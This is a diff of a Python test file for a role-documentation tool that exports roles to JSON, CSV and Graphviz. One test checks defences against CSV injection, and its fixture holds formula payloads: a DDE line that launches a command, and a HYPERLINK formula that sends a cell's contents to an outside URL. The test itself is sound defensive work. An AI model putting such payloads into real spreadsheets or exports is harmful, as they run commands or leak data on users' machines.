@@ -33,11 +33,23 @@ roles:
     group: community
     summary: Speaks for the {term}`Hub Community`.
     count: one or two
+    defined-by: an election
+    requirements:
+      - text: Member of the community
+        items:
+          - text: for a year
+            items: [or two]
     responsibilities:
       - Oversee the [Hub Administrators](roles:hub-administrator)
       - "Collect feedback, with commas"
+    sections:
+      - title: Terms
+        text: Two years.
+        items: [At most two terms]
     relations:
-      oversees: [hub-administrator]
+      oversees:
+        - role: hub-administrator
+          note: with the *engineers*
       asks: [hub-engineer]
   hub-administrator:
     name: Hub Administrator
@@ -51,6 +63,12 @@ roles:
   hub-engineer:
     name: Hub Engineer
     summary: Operates the hub.
+    url: https://example.org/engineers
+  old-engineer:
+    name: Old Engineer
+    summary: Operated the hub.
+    status: retired
+    replaced-by: hub-engineer
 terms:
   Hub Community: The people a hub serves.
 """
@@ -79,87 +97,112 @@ def test_export_json_has_every_field_and_both_directions(team):
     run = hubroles(team, "export", "--roles", "roles.yaml")
     assert (run.returncode, run.stderr) == (0, "")
     data = json.loads(run.stdout)
-    assert list(data) == ["relations", "groups", "roles", "edges", "terms"]
+    assert list(data) == ["relations", "groups", "roles", "edges", "terms", "people"]
     assert data["relations"] == {
-        "oversees": {"label": "oversees", "inverse": "overseen by"},
-        "asks": {"label": "surfaces requests to", "inverse": None},
+        "oversees": {"label": "oversees", "inverse": "overseen by", "hierarchy": False},
+        "asks": {"label": "surfaces requests to", "inverse": None, "hierarchy": False},
     }
     assert data["groups"] == {"community": {
         "name": "Hub Community", "description": "The people a hub serves.",
         "roles": ["community-representative", "hub-administrator"]}}
     assert list(data["roles"]) == ["community-representative", "hub-administrator",
-                                   "hub-engineer"]
+                                   "hub-engineer", "old-engineer"]
     assert data["roles"]["community-representative"] == {
         "id": "community-representative",
         "name": "Community Representative",
         "aliases": ["Community Representatives"],
         "group": "community",
+        "status": "active",
+        "replaced-by": None,
+        "url": None,
         "summary": "Speaks for the {term}`Hub Community`.",
         "count": "one or two",
         "filled-by": None,
+        "defined-by": "an election",
         "description": None,
+        # An item without sub-items is its text, as in roles.yaml and as published first.
+        "requirements": [{"text": "Member of the community",
+                          "items": [{"text": "for a year", "items": ["or two"]}]}],
         "responsibilities": ["Oversee the [Hub Administrators](roles:hub-administrator)",
                              "Collect feedback, with commas"],
+        "sections": [{"title": "Terms", "text": "Two years.", "items": ["At most two terms"]}],
         "see-also": [],
         "admonitions": [],
+        # Ids only, as published first; the notes are in `edges`.
         "relations": {"oversees": ["hub-administrator"], "asks": ["hub-engineer"]},
+        "holders": [],
+        "rotation": None,
         "incoming": {},
     }
     admin = data["roles"]["hub-administrator"]
     assert admin["admonitions"] == [{"kind": "warning", "text": "Only people you trust."}]
     assert admin["incoming"] == {"oversees": ["community-representative",
                                               "hub-administrator"]}
-    assert data["roles"]["hub-engineer"]["incoming"] == {"asks": ["community-representative"]}
+    engineer, old = data["roles"]["hub-engineer"], data["roles"]["old-engineer"]
+    assert engineer["incoming"] == {"asks": ["community-representative"]}
+    assert engineer["url"] == "https://example.org/engineers"
+    assert (old["status"], old["replaced-by"]) == ("retired", "hub-engineer")
     assert data["edges"] == [
         {"source": "community-representative", "relation": "oversees",
-         "target": "hub-administrator"},
-        {"source": "community-representative", "relation": "asks", "target": "hub-engineer"},
-        {"source": "hub-administrator", "relation": "oversees", "target": "hub-administrator"},
+         "target": "hub-administrator", "note": "with the *engineers*"},
+        {"source": "community-representative", "relation": "asks", "target": "hub-engineer",
+         "note": None},
+        {"source": "hub-administrator", "relation": "oversees", "target": "hub-administrator",
+         "note": None},
     ]
     assert data["terms"] == {"Hub Community": "The people a hub serves."}
 
 
-def test_export_csv_is_one_row_per_role_and_responsibility(team):
+def test_export_csv_is_one_row_per_role(team):
     run = hubroles(team, "export", "--format", "csv", entry="script")
     assert run.returncode == 0
-    assert run.stdout == (
-        "role id,role name,responsibility\n"
-        "community-representative,Community Representative,"
-        "Oversee the [Hub Administrators](roles:hub-administrator)\n"
-        'community-representative,Community Representative,"Collect feedback, with commas"\n'
-        "hub-administrator,Hub Administrator,\n"
-        "hub-engineer,Hub Engineer,\n"
-    )
+    assert list(csv.reader(io.StringIO(run.stdout))) == [
+        ["role id", "role name", "group", "status", "url", "summary", "requirements",
+         "responsibilities"],
+        ["community-representative", "Community Representative", "community", "active", "",
+         "Speaks for the {term}`Hub Community`.",
+         # one line per item, each level of sub-items indented by four spaces
+         "Member of the community\n    for a year\n        or two",
+         "Oversee the [Hub Administrators](roles:hub-administrator)\n"
+         "Collect feedback, with commas"],
+        ["hub-administrator", "Hub Administrator", "community", "active", "", "Supports users.",
+         "", ""],
+        ["hub-engineer", "Hub Engineer", "", "active", "https://example.org/engineers",
+         "Operates the hub.", "", ""],
+        ["old-engineer", "Old Engineer", "", "retired", "", "Operated the hub.", "", ""],
+    ]
 
 
 FORMULAS = """\
 roles:
   formula:
     name: =HYPERLINK("https://example.org/?"&A1, "Click")
-    summary: A name a spreadsheet would run.
-    responsibilities:
-      - "+1+cmd|' /C calc'!A0"
+    summary: "+1+cmd|' /C calc'!A0"
+    requirements:
       - -2+3
+      - =1+1 on the next line is no formula
+    responsibilities:
       - "@SUM(A1:A9)"
-      - "A - B = C, as written"
+  plain:
+    name: Plain
+    summary: "A - B = C, as written"
+    responsibilities:
       - "'quoted' already"
 """
 
 
 def test_export_csv_quotes_cells_a_spreadsheet_would_run_as_formulas(tmp_path):
     """CSV injection: a cell that starts with =, +, - or @ gets a leading ', so that a
-    spreadsheet reads it as text; other cells are as written."""
+    spreadsheet reads it as text; other cells are as written (a spreadsheet reads a cell's
+    start only)."""
     write_tree(tmp_path, {"roles.yaml": FORMULAS})
     run = hubroles(tmp_path, "export", "--format", "csv")
     assert run.returncode == 0
     name = "'=HYPERLINK(\"https://example.org/?\"&A1, \"Click\")"
-    assert list(csv.reader(io.StringIO(run.stdout))) == [
-        ["role id", "role name", "responsibility"],
-        ["formula", name, "'+1+cmd|' /C calc'!A0"],
-        ["formula", name, "'-2+3"],
-        ["formula", name, "'@SUM(A1:A9)"],
-        ["formula", name, "A - B = C, as written"],
-        ["formula", name, "'quoted' already"],
+    assert list(csv.reader(io.StringIO(run.stdout)))[1:] == [
+        ["formula", name, "", "active", "", "'+1+cmd|' /C calc'!A0",
+         "'-2+3\n=1+1 on the next line is no formula", "'@SUM(A1:A9)"],
+        ["plain", "Plain", "", "active", "", "A - B = C, as written", "", "'quoted' already"],
     ]
     # A carriage return inside a cell is quoted, so that it cannot end the row early and start
     # one with a formula (written to a file: standard output in text mode reads '\r' as '\n').
@@ -167,11 +210,11 @@ def test_export_csv_quotes_cells_a_spreadsheet_would_run_as_formulas(tmp_path):
     assert hubroles(tmp_path, "export", "--format", "csv", "-o", "out.csv").returncode == 0
     with open(tmp_path / "out.csv", encoding="utf-8", newline="") as file:
         rows = list(csv.reader(file))
-    assert rows[-1] == ["formula", name, "Two\rrows? =1+1"]
+    assert rows[-1][-1] == "'quoted' already\nTwo\rrows? =1+1"
     # JSON is data for programs, not spreadsheets: the text as written.
     data = json.loads(hubroles(tmp_path, "export").stdout)
     assert data["roles"]["formula"]["name"] == name[1:]
-    assert data["roles"]["formula"]["responsibilities"][1] == "-2+3"
+    assert data["roles"]["formula"]["requirements"][0] == "-2+3"
 
 
 def test_export_dot_is_the_full_diagram_without_page_links(team):
@@ -187,6 +230,12 @@ def test_export_dot_is_the_full_diagram_without_page_links(team):
                  '"hub-administrator" -> "hub-administrator"', "label=Legend"):
         assert node in dot
     assert "hubroles-href:" not in dot and "URL=" not in dot
+    # The role documented elsewhere is dashed, and the legend says what that means; the retired
+    # role is left out, as a roles-diagram without :status: leaves it out.
+    assert ('"hub-engineer" [label="Hub Engineer" class="hubroles-role hubroles-external" '
+            'style="rounded,filled,dashed"]') in dot
+    assert 'legend_external [label="documented elsewhere"' in dot
+    assert "old-engineer" not in dot
 
 
 @pytest.mark.skipif(shutil.which("dot") is None, reason="Graphviz is not installed")
